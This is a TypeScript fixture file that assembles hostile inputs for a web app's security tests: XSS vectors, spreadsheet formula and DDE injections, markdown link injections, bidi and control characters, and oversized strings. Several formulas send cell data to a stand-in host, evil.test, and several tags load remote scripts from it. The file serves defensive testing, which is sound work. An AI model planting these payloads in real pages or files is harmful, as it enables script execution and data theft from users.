// Hostile text for the security tests: a list per family, multiplied by the contexts text arrives
// in. Payloads that manage to run set `window.__pwned`, which the browser tests watch.

export const PAYLOAD_FAMILIES = ['xss', 'formula', 'markdown', 'bidi', 'long'] as const
export type PayloadFamily = (typeof PAYLOAD_FAMILIES)[number]

export interface Payload {
  family: PayloadFamily
  text: string
}

const RUN = 'window.__pwned=1'

const XSS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=https://evil.test/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror=&#119;indow.__pwned=1>`,
  `<img srcset="x 1x" onerror=${RUN}>`,
  `<img src="x\` \`<script>${RUN}</script>"\` \`>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x="20" y="20">x</text></a></svg>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href=" JaVaScRiPt:${RUN}">x</a>`,
  `<a href="java&#x09;script:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<a href="vbscript:${RUN}">x</a>`,
  `<a href="https://evil.test/" target="_top" ping="https://evil.test/ping">x</a>`,
  `<body onload=${RUN}>`,
  `<body is="x-evil" onload=${RUN}><p is="y-evil">x</p>`,
  `<html is="x-evil"><body is="y-evil"><b is="z-evil">x</b>`,
  `<details open ontoggle=${RUN}><summary>more</summary>hidden</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<style>@import 'https://evil.test/x.css'</style>`,
  `<div style="position:fixed;inset:0;background:url(javascript:${RUN})">overlay</div>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<base href="https://evil.test/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<link rel=stylesheet href="https://evil.test/x.css">`,
  `<template><script>${RUN}</script></template>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<img id="getElementById" name="cookie">`,
  `<form id="location"><input name="href"></form>`,
  `<a id="__pwned" name="__pwned" href="https://evil.test/">clobber</a>`,
  `<p is="x-evil" aria-labelledby="root" class="fixed inset-0" data-x="1" id="root" style="color:red">clobber</p>`,
  `<xss onmouseover=${RUN} style="display:block;position:fixed;inset:0">x</xss>`,
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN}>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `javascript:${RUN}`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `{{constructor.constructor('${RUN}')()}}`,
  '${' + RUN + '}',
  `<table><td colspan=2 rowspan=x onclick=${RUN} lang=en dir=rtl title=t>cell</td></table>`,
]

const FORMULA_BODIES = [
  `HYPERLINK("https://evil.test/?x="&A1,"click")`,
  `cmd|' /C calc'!A0`,
  `1+1`,
  `SUM(A1:A9)`,
  `IMPORTXML(CONCAT("https://evil.test/?v=",A1),"//a")`,
  `WEBSERVICE("https://evil.test/")`,
  `DDE("cmd";"/C calc";"!A0")`,
  `IMPORTDATA("https://evil.test/x.csv")`,
  `2+5+cmd|' /C calc'!A0`,
  `A1*2`,
]
const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', '\t=', '\r=', '  =', '\u00a0=', '＝', '\n=']

const MARKDOWN = [
  `[click](javascript:${RUN})`,
  `[click]( javascript:${RUN} )`,
  `[click](<javascript:${RUN}>)`,
  `![pixel](https://evil.test/p.png)`,
  `![x](javascript:${RUN})`,
  `<javascript:${RUN}>`,
  `<https://evil.test/>`,
  `[x][ref]\n\n[ref]: javascript:${RUN}`,
  `[x](https://vendor.example "t\\" onmouseover=\\"${RUN}")`,
  '# Heading injected',
  '## Sub heading',
  '- list item',
  '+ plus item',
  '* star item',
  '1. ordered',
  '1) ordered',
  '> quote',
  '| a | b |\n|---|---|\n| c | d |',
  'a | b',
  '`code` and ``double``',
  '```js\nwindow.__pwned=1\n```',
  '***bold italic*** __under__ ~~strike~~',
  'Title\n===',
  'Title\n---',
  '<div>\n*html block*\n</div>',
  'line one\nline two\r\nline three',
  `mailto:evil@evil.test`,
  'evil@evil.test',
  'www.evil.test/path',
  `\\<script>${RUN}\\</script>`,
  '\\',
  '#',
  '    indented code',
]

const BIDI = [
  '\u202Etxt.exe\u202C',
  '\u2066admin\u2069 \u2067x\u2069',
  'zero\u200Bwidth\u200C\u200D',
  'nul\u0000byte',
  'bell\u0007',
  '\u001b[31mred\u001b[0m',
  '\u001b]8;;https://evil.test\u0007link\u001b]8;;\u0007',
  '\uFEFFbom',
  'lone \uD800 surrogate',
  'non\uFFFEcharacter\uFFFF',
  'line\u2028separator\u2029paragraph',
  'next\u0085line',
  'vertical\u000btab\u000cfeed',
  'a' + '\u0301'.repeat(200),
  'emoji 👩‍💻 and 🏳️‍🌈',
  'مرحبا \u200F rtl',
  'del\u007Fchar',
  '\u0008backspace',
]

const LONG = [
  'A'.repeat(10_000),
  'outage '.repeat(5_000),
  '<b>'.repeat(3_000),
  '='.repeat(20_000),
  '['.repeat(5_000),
  '*'.repeat(5_000),
  '('.repeat(5_000),
  '<div>'.repeat(1_000),
  '&amp;'.repeat(5_000),
  `https://evil.test/${'a'.repeat(60_000)}`,
]

// The contexts hostile text arrives in: alone, inside ordinary words, twice over two lines,
// behind a formula sign, and behind a right-to-left override.
const CONTEXTS: ((text: string) => string)[] = [
  (text) => text,
  (text) => `API outage ${text} resolved`,
  (text) => `${text}\n${text}`,
  (text) => `@${text}`,
  (text) => `\u202E${text}`,
]

function inContexts(family: PayloadFamily, list: readonly string[]): Payload[] {
  return list.flatMap((text) => CONTEXTS.map((context) => ({ family, text: context(text) })))
}

/** Every payload: each family's list in every context; long strings once each. */
export const SECURITY_PAYLOADS: readonly Payload[] = [
  ...inContexts('xss', XSS),
  ...inContexts(
    'formula',
    FORMULA_STARTS.flatMap((start) => FORMULA_BODIES.map((body) => start + body)),
  ),
  ...inContexts('markdown', MARKDOWN),
  ...inContexts('bidi', BIDI),
  ...LONG.map((text) => ({ family: 'long' as const, text })),
]

/** Every nth payload of each family, for the slower browser runs. */
export function samplePayloads(step: number): Payload[] {
  return PAYLOAD_FAMILIES.flatMap((family) =>
    SECURITY_PAYLOADS.filter((p) => p.family === family).filter((_, i) => i % step === 0),
  )
}
